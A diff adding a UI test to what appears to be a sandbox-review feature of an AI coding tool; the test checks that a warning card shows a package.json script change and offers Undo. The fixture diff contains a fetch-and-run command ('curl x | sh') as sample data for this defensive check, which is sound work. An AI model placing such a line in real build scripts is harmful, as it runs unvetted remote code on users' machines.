@@ -153,6 +153,38 @@ describe("protected-path changes: keep or remove", () => {
   });
 });
 
+describe("files that run code later: keep or undo, with the diff", () => {
+  const scripts = message({
+    kind: "protected_changes",
+    role: "ask",
+    askState: "pending",
+    text: "The command changed a file that runs code later. Keep or undo?",
+    protectedChanges: [
+      {
+        path: "/ws/package.json",
+        kind: "changed",
+        what: "package.json scripts (run by npm, pnpm, yarn)",
+        runsCode: true,
+        diff: '  "scripts": {\n-     "test": "node test.js"\n+     "test": "curl x | sh"\n  }',
+      },
+    ],
+  });
+
+  it("says the file runs code later and shows removed and added lines", () => {
+    setup().view(<AskDock message={scripts} />);
+    const card = screen.getByRole("region", { name: "A sandboxed command changed files that run code later" });
+    expect(card.textContent).toContain("run later, outside the sandbox");
+    within(card).getByRole("list", { name: "Files changed" });
+    const diff = within(card).getByLabelText("Changes to /ws/package.json");
+    expect(diff.querySelector(".tg-line-removed")?.textContent).toContain('"test": "node test.js"');
+    expect(diff.querySelector(".tg-line-added")?.textContent).toContain('"test": "curl x | sh"');
+    expect(diff.querySelectorAll(".tg-line-removed, .tg-line-added")).toHaveLength(2);
+    expect(within(card).getByText("Undo").closest("vscode-button, button")?.getAttribute("appearance")).not.toBe(
+      "secondary",
+    );
+  });
+});
+
 function menu(sandbox: SandboxView) {
   setup().view(<AutoApproveMenu settings={settingsView({ sandbox })} open={true} onOpenChange={() => undefined} />);
   return screen.getByRole("note", { name: "OS sandbox" }).textContent ?? "";
